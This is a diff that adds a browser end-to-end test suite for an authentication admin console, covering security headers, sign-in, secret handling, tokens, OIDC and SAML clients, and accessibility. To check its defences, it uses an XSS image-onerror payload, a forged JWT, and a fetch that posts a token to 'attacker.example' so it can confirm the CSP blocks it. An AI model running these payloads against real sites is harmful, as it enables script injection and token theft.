@@ -1,0 +1,275 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { buildConsole } from '../../console/build';
+import { CONSOLE_CSP } from '../../console/security-headers';
+import { startTestRuntime } from '../support/local-runtime';
+import { launchChromium, seriousAccessibilityViolations, type Browser } from './chromium';
+import { createResource, createServiceAccount, openSection, signIn } from './console-driver';
+
+/**
+ * The console in a real Chromium against the local runtime: what an operator does, end to end, with
+ * the API's own answers checked behind the page where the page's word is not enough.
+ */
+
+let runtime: Awaited<ReturnType<typeof startTestRuntime>>;
+let browser: Browser;
+let page: Page;
+let consoleDir: string;
+const cspViolations: string[] = [];
+const accessibility: Record<string, string[]> = {};
+
+async function tokenFor(clientId: string, clientSecret: string): Promise<Response> {
+  return fetch(`${runtime.url}/oauth/v2/token`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams({ grant_type: 'client_credentials', client_id: clientId, client_secret: clientSecret }),
+  });
+}
+
+async function checkAccessibility(name: string): Promise<void> {
+  accessibility[name] = await seriousAccessibilityViolations(page);
+}
+
+beforeAll(async () => {
+  consoleDir = mkdtempSync(join(tmpdir(), 'latchkey-console-'));
+  await buildConsole(consoleDir); // the sources of this checkout, not a stale console/dist
+  runtime = await startTestRuntime(undefined, { consoleDir });
+  browser = await launchChromium();
+  page = await browser.newPage();
+  page.on('console', (message) => {
+    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
+  });
+  page.on('dialog', (dialog) => void dialog.accept());
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await runtime?.stop();
+  rmSync(consoleDir, { recursive: true, force: true });
+});
+
+describe('the admin console in Chromium', () => {
+  it('is served with the strict CSP and security headers, and refuses to be framed', async () => {
+    const response = await page.goto(`${runtime.url}/console/`);
+    const headers = response!.headers();
+    expect(headers['content-security-policy']).toBe(CONSOLE_CSP);
+    expect(headers['x-frame-options']).toBe('DENY');
+    expect(headers['x-content-type-options']).toBe('nosniff');
+    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
+    await checkAccessibility('sign in');
+  });
+
+  it('refuses a wrong secret with the token endpoint’s message and keeps the user signed out', async () => {
+    await page.getByLabel('Client ID').fill(runtime.devAdmin.clientId);
+    await page.getByLabel('Client secret').fill('lks_wrong');
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await expect.poll(() => page.getByRole('alert').first().textContent()).toMatch(/client/i);
+    expect(await page.getByLabel('Client secret').inputValue()).toBe(''); // the secret left the form
+    await expect(page.getByRole('navigation', { name: 'Sections' }).count()).resolves.toBe(0);
+  });
+
+  it('signs in with client credentials and keeps the token in memory only', async () => {
+    await signIn(page, runtime.url, runtime.devAdmin.clientId, runtime.devAdmin.clientSecret);
+    const stored = await page.evaluate(() => ({
+      local: JSON.stringify({ ...localStorage }),
+      session: JSON.stringify({ ...sessionStorage }),
+      cookies: document.cookie,
+      url: location.href,
+    }));
+    expect(stored).toEqual({ local: '{}', session: '{}', cookies: '', url: expect.not.stringContaining('token') });
+    expect(await browser.context.cookies()).toEqual([]);
+    expect(await page.content()).not.toContain(runtime.devAdmin.clientSecret);
+    await checkAccessibility('service accounts');
+  });
+
+  it('creates a resource, then a service account whose secret is shown once and works', async () => {
+    await createResource(page, 'orders', ['orders.read', 'orders.write']);
+    await checkAccessibility('resources');
+    const secret = await createServiceAccount(page, 'billing');
+    expect(secret).toMatch(/^lks_/);
+    const clientId = await page.locator('p', { hasText: 'client ID' }).locator('code').textContent();
+    expect((await tokenFor(clientId!, secret)).status).toBe(200);
+
+    await page.getByRole('button', { name: 'I have stored it' }).click();
+    await openSection(page, 'Resources');
+    await openSection(page, 'Service accounts');
+    expect(await page.content()).not.toContain(secret);
+  });
+
+  it('grants a permission, mints a token and shows its claims', async () => {
+    await page.getByRole('link', { name: 'billing' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Service account billing' }).waitFor();
+    await page.getByRole('checkbox', { name: 'orders: orders.read' }).check();
+    await page.getByRole('button', { name: 'Save permissions' }).click();
+    await page.getByRole('status').filter({ hasText: 'Permissions saved' }).waitFor();
+    await checkAccessibility('service account');
+
+    const mint = page.getByRole('form', { name: 'Mint a test token' });
+    await mint.getByLabel('Resource').selectOption('orders');
+    await mint.getByRole('button', { name: 'Mint token' }).click();
+    const claims = JSON.parse((await page.getByLabel('Token claims').textContent())!) as Record<string, unknown>;
+    expect(claims).toMatchObject({ subjectType: 'ServiceAccount', name: 'billing', permissions: { orders: ['orders.read'] } });
+  });
+
+  it('resets the secret: the new one is shown once, the old one stops at once', async () => {
+    const clientId = (await page.getByLabel('Service account', { exact: true }).textContent())!.match(/"clientId": "([^"]+)"/)![1]!;
+    const reset = page.getByRole('form', { name: 'Reset the secret' });
+    await reset.getByRole('button', { name: 'Reset secret' }).click();
+    const fresh = await page.getByRole('textbox', { name: 'New client secret' }).inputValue();
+    expect(fresh).toMatch(/^lks_/);
+    expect((await tokenFor(clientId, fresh)).status).toBe(200);
+    expect((await tokenFor(clientId, 'lks_' + 'x'.repeat(40))).status).toBe(401);
+  });
+
+  it('shows a bad grace period beside its field', async () => {
+    const reset = page.getByRole('form', { name: 'Reset the secret' });
+    await reset.getByLabel('Grace period (seconds)').fill('99999999');
+    await reset.getByRole('button', { name: 'Reset secret' }).click();
+    await reset.locator('.field-error', { hasText: 'must be' }).waitFor();
+  });
+
+  it('checks redirect URIs as they are typed, shows the API’s field error, then creates the client', async () => {
+    await openSection(page, 'Applications');
+    await checkAccessibility('applications');
+    const create = page.getByRole('form', { name: 'Create an application' });
+    await create.getByLabel('Name', { exact: true }).fill('Storefront');
+    await create.getByRole('button', { name: 'Create application' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Application Storefront' }).waitFor();
+    await checkAccessibility('application');
+
+    const form = page.getByRole('form', { name: 'Create an OIDC client' });
+    const redirects = form.getByLabel('Redirect URIs (one per line)');
+    await form.getByLabel('Client name').fill('web');
+    await redirects.fill('http://shop.example.com/callback');
+    const fieldError = form.locator('.field.invalid .field-error');
+    await expect.poll(() => fieldError.textContent()).toContain('must use https');
+    expect(await redirects.getAttribute('aria-invalid')).toBe('true');
+
+    // Sent anyway, the API refuses it and names the field: the console shows its answer there.
+    await form.getByRole('button', { name: 'Create OIDC client' }).click();
+    await expect.poll(() => form.getByRole('alert').last().textContent()).toContain('redirectUris.0');
+
+    await redirects.fill('https://shop.example.com/callback');
+    await expect.poll(() => fieldError.count()).toBe(0);
+    await form.getByRole('button', { name: 'Create OIDC client' }).click();
+    await page.getByRole('textbox', { name: 'OIDC client secret' }).waitFor();
+    await page.locator('summary', { hasText: 'web' }).click();
+    await page.getByRole('button', { name: 'Delete OIDC client web' }).click();
+    await expect.poll(() => page.locator('summary', { hasText: 'cl_' }).count()).toBe(0);
+  });
+
+  it('creates a SAML client whose IdP metadata downloads from the same origin', async () => {
+    const form = page.getByRole('form', { name: 'Create a SAML client' });
+    await form.getByLabel('SAML client name').fill('wiki');
+    await form.getByLabel('Assertion consumer service URL').fill('https://wiki.example.com/saml/acs');
+    await form.getByLabel('Service provider entity ID').fill('https://wiki.example.com');
+    await form.getByRole('button', { name: 'Create SAML client' }).click();
+    await page.locator('summary', { hasText: 'wiki' }).click();
+    const link = page.getByRole('link', { name: 'Download IdP metadata for wiki' });
+    const metadata = await fetch(new URL((await link.getAttribute('href'))!, `${runtime.url}/console/`));
+    expect(metadata.status).toBe(200);
+    expect(await metadata.text()).toContain('EntityDescriptor');
+    expect(await link.getAttribute('download')).toBe('wiki-idp-metadata.xml');
+  });
+
+  it('creates a personal access token, shown once, and signs in with it', async () => {
+    await openSection(page, 'Service accounts');
+    await page.getByRole('row').filter({ hasText: runtime.devAdmin.clientId }).getByRole('link').click();
+    const form = page.getByRole('form', { name: 'Create a personal access token' });
+    await form.getByLabel('Token name').fill('console-test');
+    await form.getByRole('button', { name: 'Create personal access token' }).click();
+    const pat = await page.getByRole('textbox', { name: 'Personal access token' }).inputValue();
+    expect(pat).toMatch(/^lkp_/);
+
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
+    await page.getByLabel('Sign in with').selectOption('Personal access token');
+    await page.getByLabel('Personal access token').fill(pat);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    // Back on the page it was on, now with the token's own access.
+    await page.getByLabel('Service account', { exact: true }).filter({ hasText: runtime.devAdmin.clientId }).waitFor();
+  });
+
+  it('verifies a pasted token against the JWKS and says when it expires', async () => {
+    const minted = (await (await tokenFor(runtime.devAdmin.clientId, runtime.devAdmin.clientSecret)).json()) as { access_token: string };
+    await openSection(page, 'Token inspector');
+    await page.getByLabel('JWT').fill(minted.access_token);
+    await page.getByRole('button', { name: 'Verify signature' }).click();
+    await page.getByRole('status').filter({ hasText: 'Signature valid' }).waitFor();
+    expect(await page.getByText('expires in').count()).toBe(1);
+    await checkAccessibility('token inspector');
+
+    const [header, payload] = minted.access_token.split('.');
+    const forged = Buffer.from(JSON.stringify({ ...JSON.parse(Buffer.from(payload!, 'base64url').toString()), name: 'root' })).toString('base64url');
+    await page.getByLabel('JWT').fill(`${header}.${forged}.${minted.access_token.split('.')[2]}`);
+    await page.getByRole('button', { name: 'Verify signature' }).click();
+    await page.getByRole('status').filter({ hasText: 'the signature does not verify' }).waitFor();
+  });
+
+  it('has pages for the environment, the IDP connection and end users', async () => {
+    await openSection(page, 'Environment');
+    await page.getByLabel('Environment', { exact: true }).waitFor();
+    await page.getByLabel('Service-account token lifetime (seconds)').fill('10');
+    await page.getByRole('button', { name: 'Save settings' }).click();
+    await page.locator('.field-error', { hasText: 'must be a whole number of seconds from 30' }).waitFor();
+    await checkAccessibility('environment');
+    await openSection(page, 'IDP connection');
+    await checkAccessibility('idp connection');
+    await openSection(page, 'End users');
+    await checkAccessibility('end users');
+  });
+
+  it('shows markup from the API as text: a hostile account name runs nothing', async () => {
+    const hostile = '<img src=x onerror="window.__injected=1">';
+    await createServiceAccount(page, hostile);
+    await page.getByRole('button', { name: 'I have stored it' }).click();
+    await page.getByRole('link', { name: hostile }).waitFor();
+    expect(await page.evaluate(() => (window as { __injected?: number }).__injected)).toBeUndefined();
+    expect(await page.locator('main img').count()).toBe(0);
+  });
+
+  it('deletes the service account', async () => {
+    await openSection(page, 'Service accounts');
+    await page.getByRole('link', { name: 'billing' }).click();
+    await page.getByRole('button', { name: 'Delete service account' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Service accounts' }).waitFor();
+    await expect.poll(() => page.getByRole('link', { name: 'billing' }).count()).toBe(0);
+  });
+
+  it('forgets the token on reload: the page asks to sign in again', async () => {
+    await page.reload();
+    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
+  });
+
+  it('ran without a CSP violation and without serious accessibility findings on any page', () => {
+    expect(cspViolations).toEqual([]);
+    expect(Object.keys(accessibility).length).toBeGreaterThanOrEqual(9);
+    expect(accessibility).toEqual(Object.fromEntries(Object.keys(accessibility).map((name) => [name, []])));
+  });
+
+  it('has a CSP that refuses an injected inline script and a call to another origin', async () => {
+    const refused = await page.evaluate(async () => {
+      const directives: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+      const script = document.createElement('script');
+      script.textContent = 'window.__inline = 1';
+      document.body.append(script);
+      const elsewhere = await fetch('https://attacker.example/steal', { method: 'POST', body: 'token' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      // Violation events are dispatched asynchronously: wait for both (the test times out if the CSP lets either through).
+      await new Promise<void>((resolve) => {
+        const check = () => (directives.length >= 2 ? resolve() : setTimeout(check, 10));
+        check();
+      });
+      return { ran: (window as { __inline?: number }).__inline, elsewhere, directives };
+    });
+    expect(refused.ran).toBeUndefined();
+    expect(refused.elsewhere).toBe('refused');
+    expect(refused.directives).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
+  });
+});
